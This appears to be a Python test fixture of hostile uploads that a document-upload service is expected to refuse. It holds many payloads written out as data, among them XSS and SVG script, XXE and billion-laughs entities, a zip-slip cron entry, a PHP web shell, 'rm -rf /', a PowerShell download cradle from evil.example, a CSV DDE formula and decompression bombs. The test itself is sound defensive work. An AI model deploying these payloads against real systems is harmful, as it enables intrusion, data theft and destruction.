"""Files that are no documents, whatever their names say."""

import bz2
import gzip
import lzma
import tarfile
import zipfile
from io import BytesIO

from tests.accounts import papers
from tests.accounts.hostile.kinds import EICAR, Hostile, refused

UNKNOWN = "not a PDF, JPEG, PNG or HEIC"
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def zipped(**members: bytes) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return written.getvalue()


def nested_bomb() -> bytes:
    inner = zipped(zeros=bytes(5_000_000))
    for _level in range(3):
        inner = zipped(**{f"layer{number}_zip": inner for number in range(10)})
    return inner


def escaping() -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("../../../../etc/cron.d/root", "* * * * * root id")
    return written.getvalue()


def taped() -> bytes:
    written = BytesIO()
    with tarfile.open(fileobj=written, mode="w") as tape:
        entry = tarfile.TarInfo("passwd")
        entry.type, entry.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tape.addfile(entry)
    return written.getvalue()


def oversized(beginning: bytes) -> bytes:
    return beginning + bytes(10 * 1024 * 1024 + 1 - len(beginning))


FILES: list[Hostile] = [
    refused("zero bytes.pdf", b"", "The file is empty"),
    *(
        refused(name, content, UNKNOWN)
        for name, content in {
            "one byte.pdf": b"%",
            "white space.pdf": b" \r\n\t" * 40,
            "zeros.pdf": bytes(4096),
            "text.pdf": b"This is our VAT certificate.",
            "eicar.pdf": EICAR,
            "html.jpg": HTML,
            "html.pdf": HTML.upper(),
            "html with a mark.png": b"\xef\xbb\xbf" + HTML,
            "html in utf-16.pdf": HTML.decode().encode("utf-16"),
            "xhtml.heic": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>' + HTML,
            "archived page.pdf": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML,
            "application.hta": b"<hta:application><script>new ActiveXObject('WScript.Shell')</script>",
            "drawing.svg": SVG,
            "drawing.jpg": b'<?xml version="1.0"?>' + SVG,
            "foreign.png": b'<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
            "laughs.pdf": LAUGHS,
            "entity.pdf": ENTITY,
            "style.pdf": b'<?xml-stylesheet type="text/xsl" href="data:,"?><x/>',
            "script.js": b"require('child_process').exec('id')",
            "page.php": b"<?php system($_GET['c']); ?>",
            "page.jsp": b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>',
            "shell.sh": b"#!/bin/sh\nrm -rf /\n",
            "batch.bat": b"@echo off\r\ndel C:\\*.*\r\n",
            "power.ps1": b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example')",
            "visual.vbs": b'CreateObject("WScript.Shell").Run "calc"',
            "macro.slk": b"ID;P\nC;X1;Y1;EEXEC(calc)\nE\n",
            "formula.csv": b"=cmd|' /C calc'!A0\n",
            "shortcut.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80),
            "address.url": b"[InternetShortcut]\r\nURL=file://evil.example/share\r\n",
            "program.exe": b"MZ\x90\x00" + bytes(200),
            "program.pdf.exe": b"MZ\x90\x00\x03" + bytes(100),
            "elf.pdf": b"\x7fELF\x02\x01\x01" + bytes(60),
            "mach.pdf": b"\xcf\xfa\xed\xfe" + bytes(60),
            "class.jpg": b"\xca\xfe\xba\xbe\x00\x00\x00\x37" + bytes(60),
            "module.wasm": b"\x00asm\x01\x00\x00\x00",
            "pickle.pdf": b"cos\nsystem\n(S'id'\ntR.",
            "database.pdf": b"SQLite format 3\x00" + bytes(84),
            "ole.pdf": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
            "rich.pdf": b"{\\rtf1{\\object\\objocx\\objdata 0105000002000000}}",
            "postscript.pdf": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
            "eps.jpg": b"\xc5\xd0\xd3\xc6" + bytes(28),
            "picture.gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
            "gifar.gif": b"GIF89a/*" + zipped(Main_class=b"\xca\xfe\xba\xbe"),
            "picture.bmp": b"BM" + bytes(60),
            "picture.tiff": b"II*\x00\x08\x00\x00\x00" + bytes(20),
            "picture.webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(24),
            "picture.ico": b"\x00\x00\x01\x00\x01\x00" + bytes(16),
            "picture.psd": b"8BPS\x00\x01" + bytes(20),
            "picture.avif": b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00",
            "film.heic": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00",
            "fonts.pdf": b"\x00\x01\x00\x00\x00\x0c" + bytes(60),
            "flash.pdf": b"CWS\x0a" + bytes(60),
            "space before.pdf": b" " + papers.pdf(),
            "line before.pdf": b"\n" + papers.pdf(),
            "html and pdf.pdf": HTML + b"\n" + papers.pdf(),
            "program and pdf.pdf": b"MZ\x90\x00" + papers.pdf(),
            "lower case.pdf": papers.pdf().replace(b"%PDF-", b"%pdf-", 1),
            "headless.jpg": papers.picture()[2:],
        }.items()
    ),
    *(
        refused(name, made, UNKNOWN)
        for name, made in {
            "archive.zip": lambda: zipped(readme_txt=b"hello"),
            "bomb.zip": lambda: zipped(zeros=bytes(8_000_000)),
            "nested bomb.pdf": nested_bomb,
            "escaping.zip": escaping,
            "eicar.zip": lambda: zipped(eicar_com=EICAR),
            "java.jar": lambda: zipped(META__MANIFEST=b"Main-Class: Evil"),
            "letter.docm": lambda: zipped(word__vbaProject_bin=b"Auto_Open"),
            "sheet.xlsx": lambda: zipped(xl__workbook_xml=ENTITY),
            "zip and pdf.pdf": lambda: zipped(a=b"b") + papers.pdf(),
            "bomb.gz": lambda: gzip.compress(bytes(8_000_000), mtime=0),
            "drawing.svgz": lambda: gzip.compress(SVG, mtime=0),
            "bomb.bz2": lambda: bz2.compress(bytes(8_000_000)),
            "bomb.xz": lambda: lzma.compress(bytes(8_000_000)),
            "links.tar": taped,
            "seven.7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(26),
            "archive.rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(20),
        }.items()
    ),
    refused("too large.pdf", lambda: oversized(papers.pdf()), "larger than 10 MB"),
    refused("too large.jpg", lambda: oversized(papers.picture()), "larger than 10 MB"),
    refused("too large.txt", lambda: oversized(b"text"), "larger than 10 MB"),
]
